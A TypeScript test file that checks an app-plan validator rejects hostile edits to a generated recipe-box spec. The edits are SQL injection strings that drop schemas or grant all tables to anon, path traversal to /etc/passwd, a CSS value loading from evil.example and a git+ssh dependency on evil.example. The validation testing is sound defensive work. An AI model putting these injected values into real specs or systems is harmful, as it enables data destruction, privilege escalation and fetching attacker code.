import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { expect, test } from 'vitest'
import { planApp } from '../../../lib/domains/generation/builtin/architect/plan-app'
import { planSite } from '../../../lib/domains/generation/builtin/site/plan-site'
import { AppSpec } from '../../../lib/domains/spec/contract'
import { isOneExpression } from '../../../lib/domains/spec/edit/dangers'
import { Plan, SafeSpec } from '../../../lib/domains/spec/edit/plan'

/* Plans that somebody wrote to get out of the files that are made from them. */

const PROMPT = 'A recipe box where members save recipes with ingredients and rate them'
const good = planApp({ prompt: PROMPT })

const HOSTILE: Array<[string, (plan: AppSpec) => void]> = [
  ['spec.entities.0.table', (plan) => void (plan.entities[0]!.table = 'x; drop schema public cascade')],
  ['spec.entities.0.table', (plan) => void (plan.entities[0]!.table = '../../../etc/passwd')],
  [
    'spec.entities.0.fields.0.column',
    (plan) => void (plan.entities[0]!.fields[0]!.column = 'a" text); drop table x; --'),
  ],
  [
    'spec.entities.0.fields.0.references',
    (plan) => void (plan.entities[0]!.fields[0]!.references = 'x(id); drop table y'),
  ],
  [
    'spec.entities.0.fields',
    (plan) =>
      void (plan.entities[0]!.fields = Array.from({ length: 10_000 }, (_, n) => ({
        name: `f${n}`,
        column: `f${n}`,
        type: 'text',
      }))),
  ],
  ['spec.entities.0.name', (plan) => void (plan.entities[0]!.name = 'x'.repeat(2_001))],
  ['spec.entities.0.name', (plan) => void (plan.entities[0]!.name = 'rec\u202eipe')],
  ['spec.pages.0.path', (plan) => void (plan.pages[0]!.path = '/../../../../tmp/x')],
  ['spec.pages.0.path', (plan) => void (plan.pages[0]!.path = "/a'};process.exit()//")],
  ['spec.routes.0.path', (plan) => void (plan.routes[0]!.path = '/api/..%2f..')],
  ['spec.env.0.name', (plan) => void (plan.env = [{ name: 'A=1\nNODE_OPTIONS' }])],
  ['spec.theme.background', (plan) => void (plan.theme.background = '#fff;} body{background:url(//evil.example)')],
  ['spec.dependencies', (plan) => void (plan.dependencies = { 'left-pad': 'git+ssh://evil.example/x.git' })],
  [
    'spec.access.0.readWhere',
    (plan) =>
      void (plan.access[0]!.readWhere = 'true); grant all on all tables in schema public to anon; select (true'),
  ],
  ['spec.access.0', (plan) => void (plan.access[0]!.owner = 'id = id) or (true')],
  ['spec.pages.0.title', (plan) => void (plan.pages[0]!.title = 'a\u0000b')],
]

test.each(HOSTILE)('a plan is refused at %s', (place, change) => {
  const plan = structuredClone(good)
  change(plan)
  expect(['spec', ...SafeSpec.safeParse(plan).error!.issues[0]!.path].join('.')).toBe(place)
})

test('plans that our own architects make are taken, also those of projects that exist', () => {
  const prompts = readFileSync(new URL('../../fixtures/prompts.jsonl', import.meta.url), 'utf8')
    .trim()
    .split('\n')
    .map((line) => (JSON.parse(line) as { prompt: string }).prompt)
  for (const prompt of prompts)
    for (const plan of [planApp({ prompt }), planSite({ prompt })])
      expect([prompt, Plan.safeParse(plan).error]).toEqual([prompt, undefined])
  const folder = new URL('../../fixtures/correct/', import.meta.url)
  const plans = readdirSync(folder).flatMap((name) => {
    const file = new URL(`${name}/devora.json`, folder)
    const plan = existsSync(file) ? AppSpec.safeParse(JSON.parse(readFileSync(file, 'utf8'))) : null
    return plan?.success === true ? [plan.data] : []
  })
  expect(plans.filter((plan) => !SafeSpec.safeParse(plan).success)).toEqual([])
})

test('a condition is one expression or nothing', () => {
  for (const sql of [
    "status = 'published'",
    "owner = :other or (tags @> '{a}' and array[1,2] is not null)",
    `"Name" = 'it''s; -- fine'`.replace('; --', ''),
  ])
    expect([sql, isOneExpression(sql)]).toEqual([sql, true])
  for (const sql of [
    '',
    'true)',
    '(true',
    'true; select 1',
    'true -- x',
    'true /* x',
    "'a",
    '"a',
    '$$a$$',
    ') or (true',
    'a = \\x',
  ])
    expect([sql, isOneExpression(sql)]).toEqual([sql, false])
})
